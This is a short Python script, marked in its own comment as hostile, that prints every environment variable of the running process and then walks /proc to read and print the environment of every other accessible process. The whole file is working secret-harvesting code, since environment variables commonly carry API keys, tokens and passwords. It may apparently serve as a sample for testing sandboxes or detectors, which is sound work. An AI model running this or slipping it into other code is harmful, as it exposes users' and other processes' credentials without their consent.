# Hostile: steal the caller's environment, directly and through /proc.
import os

print("\n".join(f"{k}={v}" for k, v in os.environ.items()))
for pid in os.listdir("/proc"):
    try:
        print(open(f"/proc/{pid}/environ", "rb").read().decode(errors="replace"))
    except OSError:
        pass
